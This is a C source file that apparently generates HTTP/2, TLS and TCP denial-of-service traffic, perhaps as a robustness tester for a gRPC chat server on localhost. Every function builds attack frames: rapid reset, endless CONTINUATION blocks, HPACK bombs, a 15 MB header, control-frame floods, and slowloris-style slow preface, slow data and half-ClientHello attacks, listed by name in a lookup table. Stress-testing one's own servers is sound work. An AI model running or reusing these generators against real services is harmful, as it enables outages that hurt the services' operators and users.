/* The attacks. Sizes are chosen so that one piece fits a few TLS records. */
#include "h2/flood.h"

#include "base/macros.h"
#include "h2/h2_priv.h"
#include "h2/hpack.h"

#include <stdio.h>
#include <string.h>

enum {
	FLOOD_PIECE_FRAMES = 200,
	FLOOD_BIG_FRAME = 16384,
	FLOOD_SMALL_HEADERS = 1000,
	FLOOD_SLOW_FRAMES = 5,
	FLOOD_STREAM = 3, /* 1 is the one that signs in */
};

static uint32_t next_stream(void)
{
	static uint32_t stream = FLOOD_STREAM;
	stream += 2;
	return stream - 2;
}

static void put(struct h2_bytes *out, const struct h2_frame *frame)
{
	h2_frame_put(out, frame);
}

void flood_put_request(struct h2_bytes *out, uint32_t stream, uint8_t flags, const char *token)
{
	struct h2_bytes block = {0};
	char bearer[512];
	hpack_put(&block, ":method", "POST");
	hpack_put(&block, ":scheme", "https");
	hpack_put(&block, ":path", "/gchat.v1.Chat/Connect");
	hpack_put(&block, ":authority", "localhost");
	hpack_put(&block, "te", "trailers");
	hpack_put(&block, "content-type", "application/grpc");
	if (token) {
		(void)snprintf(bearer, sizeof(bearer), "Bearer %s", token); /* cut short: refused */
		hpack_put(&block, "authorization", bearer);
	}
	put(out, &(struct h2_frame){.type = H2_HEADERS,
			 .flags = flags,
			 .stream = stream,
			 .data = h2_bytes_front(&block),
			 .len = h2_bytes_len(&block)});
	h2_bytes_deinit(&block);
}

static void fill_rapid_reset(struct h2_bytes *out, unsigned turn)
{
	static const uint8_t cancel[4] = {0, 0, 0, 8};
	(void)turn;
	for (int i = 0; i < FLOOD_PIECE_FRAMES; i++) {
		uint32_t stream = next_stream();
		flood_put_request(out, stream, H2_FLAG_END_HEADERS, NULL);
		put(out,
			&(struct h2_frame){
				.type = H2_RST_STREAM, .stream = stream, .data = cancel, .len = 4});
	}
}

static void fill_streams(struct h2_bytes *out, unsigned turn)
{
	(void)turn;
	for (int i = 0; i < FLOOD_PIECE_FRAMES; i++)
		flood_put_request(out, next_stream(), H2_FLAG_END_HEADERS, NULL);
}

/* A header block that never ends, of small headers. */
static void fill_continuation(struct h2_bytes *out, unsigned turn)
{
	struct h2_bytes block = {0};
	if (turn == 0)
		flood_put_request(out, FLOOD_STREAM, 0, NULL);
	for (int i = 0; i < FLOOD_SMALL_HEADERS; i++)
		hpack_put(&block, "x", "y");
	put(out, &(struct h2_frame){.type = H2_CONTINUATION,
			 .stream = FLOOD_STREAM,
			 .data = h2_bytes_front(&block),
			 .len = h2_bytes_len(&block)});
	h2_bytes_deinit(&block);
}

/* One header whose value announces 15 MB, which come in CONTINUATION frames. */
static void fill_huge_hpack(struct h2_bytes *out, unsigned turn)
{
	static uint8_t filler[FLOOD_BIG_FRAME];
	struct h2_bytes block = {0};
	memset(filler, 'a', sizeof(filler));
	if (turn == 0) {
		hpack_put_int(&block, 0, 4, 0);
		hpack_put_int(&block, 0, 7, 1);
		h2_bytes_add(&block, "x", 1);
		hpack_put_int(&block, 0, 7, 15 << 20);
		put(out, &(struct h2_frame){.type = H2_HEADERS,
				 .stream = FLOOD_STREAM,
				 .data = h2_bytes_front(&block),
				 .len = h2_bytes_len(&block)});
	}
	put(out, &(struct h2_frame){.type = H2_CONTINUATION,
			 .stream = FLOOD_STREAM,
			 .data = filler,
			 .len = sizeof(filler)});
	h2_bytes_deinit(&block);
}

static void fill_ping(struct h2_bytes *out, unsigned turn)
{
	static const uint8_t opaque[8] = {0};
	(void)turn;
	for (int i = 0; i < FLOOD_PIECE_FRAMES; i++)
		put(out, &(struct h2_frame){.type = H2_PING, .data = opaque, .len = 8});
}

static void fill_settings(struct h2_bytes *out, unsigned turn)
{
	static const uint8_t setting[6] = {0, 4, 0, 0, 0xff, 0xff};
	(void)turn;
	for (int i = 0; i < FLOOD_PIECE_FRAMES; i++)
		put(out, &(struct h2_frame){.type = H2_SETTINGS, .data = setting, .len = 6});
}

static void fill_window(struct h2_bytes *out, unsigned turn)
{
	static const uint8_t one[4] = {0, 0, 0, 1};
	(void)turn;
	for (int i = 0; i < FLOOD_PIECE_FRAMES; i++)
		put(out, &(struct h2_frame){.type = H2_WINDOW_UPDATE, .data = one, .len = 4});
}

static void fill_priority(struct h2_bytes *out, unsigned turn)
{
	static const uint8_t priority[5] = {0, 0, 0, 0, 16};
	(void)turn;
	for (int i = 0; i < FLOOD_PIECE_FRAMES; i++)
		put(out, &(struct h2_frame){.type = H2_PRIORITY,
				 .stream = FLOOD_STREAM,
				 .data = priority,
				 .len = 5});
}

static void fill_empty_data(struct h2_bytes *out, unsigned turn)
{
	if (turn == 0)
		flood_put_request(out, FLOOD_STREAM, H2_FLAG_END_HEADERS, NULL);
	for (int i = 0; i < FLOOD_PIECE_FRAMES; i++)
		put(out, &(struct h2_frame){.type = H2_DATA, .stream = FLOOD_STREAM});
}

/* Small blocks that name a large header of the table again and again. */
static void fill_hpack_bomb(struct h2_bytes *out, unsigned turn)
{
	static uint8_t again[FLOOD_BIG_FRAME - 1000];
	struct h2_bytes block = {0};
	uint8_t filler[4000];
	memset(filler, 'a', sizeof(filler));
	memset(again, 0x80 | 62, sizeof(again)); /* the newest entry: RFC 7541, 2.3.3 */
	if (turn == 0) {
		hpack_put_int(&block, 0x40, 6, 0);
		hpack_put_int(&block, 0, 7, 1);
		h2_bytes_add(&block, "x", 1);
		hpack_put_int(&block, 0, 7, sizeof(filler));
		h2_bytes_add(&block, filler, sizeof(filler));
	} else {
		h2_bytes_add(&block, again, sizeof(again));
	}
	put(out, &(struct h2_frame){.type = H2_HEADERS,
			 .flags = H2_FLAG_END_HEADERS,
			 .stream = next_stream(),
			 .data = h2_bytes_front(&block),
			 .len = h2_bytes_len(&block)});
	h2_bytes_deinit(&block);
}

/* Few bytes: a header of the static table and a reset, a thousand times a second. */
static void fill_slow_reset(struct h2_bytes *out, unsigned turn)
{
	static const uint8_t cancel[4] = {0, 0, 0, 8};
	static const uint8_t post[1] = {0x83};
	(void)turn;
	for (int i = 0; i < FLOOD_SLOW_FRAMES; i++) {
		uint32_t stream = next_stream();
		put(out, &(struct h2_frame){.type = H2_HEADERS,
				 .flags = H2_FLAG_END_HEADERS,
				 .stream = stream,
				 .data = post,
				 .len = sizeof(post)});
		put(out,
			&(struct h2_frame){
				.type = H2_RST_STREAM, .stream = stream, .data = cancel, .len = 4});
	}
}

/* A message of 1000 bytes in frames of one. */
static void fill_slow_data(struct h2_bytes *out, unsigned turn)
{
	static const uint8_t prefix[5] = {0, 0, 0, 3, 0xe8};
	if (turn == 0) {
		flood_put_request(out, FLOOD_STREAM, H2_FLAG_END_HEADERS, NULL);
		put(out, &(struct h2_frame){.type = H2_DATA,
				 .stream = FLOOD_STREAM,
				 .data = prefix,
				 .len = sizeof(prefix)});
	}
	put(out, &(struct h2_frame){
			 .type = H2_DATA, .stream = FLOOD_STREAM, .data = prefix, .len = 1});
}

static void fill_garbage(struct h2_bytes *out, unsigned turn)
{
	uint8_t *p = h2_bytes_room(out, FLOOD_BIG_FRAME);
	for (size_t i = 0; i < FLOOD_BIG_FRAME; i++)
		p[i] = (uint8_t)(i * 167 + turn * 13 + 1);
	out->end += FLOOD_BIG_FRAME;
}

static void fill_nothing(struct h2_bytes *out, unsigned turn)
{
	(void)out;
	(void)turn;
}

/* The preface, one byte a piece; nothing after its last byte but one. */
static void fill_slow_preface(struct h2_bytes *out, unsigned turn)
{
	static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r";
	if (turn < sizeof(preface) - 1)
		h2_bytes_add(out, preface + turn, 1);
}

/* The head of a TLS record that announces a ClientHello of 508 bytes, and its first bytes. */
static void fill_half_hello(struct h2_bytes *out, unsigned turn)
{
	static const uint8_t head[] = {0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3};
	if (turn == 0)
		h2_bytes_add(out, head, sizeof(head));
}

/* A request whose header block is never ended, then silence. */
static void fill_half_headers(struct h2_bytes *out, unsigned turn)
{
	if (turn == 0)
		flood_put_request(out, FLOOD_STREAM, 0, NULL);
}

/* clang-format off */
const struct flood_kind flood_kinds[] = {
	{"rapid-reset", "HEADERS and RST_STREAM, again and again", FLOOD_HTTP2, fill_rapid_reset, 0, false},
	{"continuation", "a header block of small headers that never ends", FLOOD_HTTP2, fill_continuation, 0, false},
	{"huge-hpack", "one header of 15 MB in CONTINUATION frames", FLOOD_HTTP2, fill_huge_hpack, 0, false},
	{"streams", "streams opened without end", FLOOD_HTTP2, fill_streams, 0, false},
	{"ping", "PING frames", FLOOD_HTTP2, fill_ping, 0, false},
	{"settings", "SETTINGS frames, acknowledgements unread", FLOOD_HTTP2, fill_settings, 0, true},
	{"window-update", "WINDOW_UPDATE frames", FLOOD_HTTP2, fill_window, 0, false},
	{"priority", "PRIORITY frames", FLOOD_HTTP2, fill_priority, 0, false},
	{"empty-data", "empty DATA frames on one stream", FLOOD_HTTP2, fill_empty_data, 0, false},
	{"hpack-bomb", "small header blocks that stand for megabytes", FLOOD_HTTP2, fill_hpack_bomb, 0, false},
	{"slow-reset", "small HEADERS and RST_STREAM, a thousand a second", FLOOD_HTTP2, fill_slow_reset, 5, false},
	{"slow-data", "a message in DATA frames of a byte, one a second", FLOOD_HTTP2, fill_slow_data, 1000, false},
	{"garbage", "bytes that are no frames", FLOOD_HTTP2, fill_garbage, 0, false},
	{"idle", "HTTP/2's preface, then silence", FLOOD_HTTP2, fill_nothing, 100, false},
	{"half-headers", "a header block without end, then silence", FLOOD_HTTP2, fill_half_headers, 100, false},
	{"slow-preface", "the preface, a byte a second", FLOOD_TLS, fill_slow_preface, 1000, false},
	{"no-preface", "TLS, then silence", FLOOD_TLS, fill_nothing, 100, false},
	{"no-tls", "TCP, then silence", FLOOD_TCP, fill_nothing, 100, false},
	{"half-hello", "half a ClientHello, then silence", FLOOD_TCP, fill_half_hello, 100, false},
	{"not-tls", "bytes that are no TLS", FLOOD_TCP, fill_garbage, 0, false},
};
/* clang-format on */
const size_t flood_kinds_count = GC_LENGTH(flood_kinds);

const struct flood_kind *flood_kind_find(const char *name)
{
	for (size_t i = 0; i < flood_kinds_count; i++)
		if (strcmp(flood_kinds[i].name, name) == 0)
			return &flood_kinds[i];
	return NULL;
}
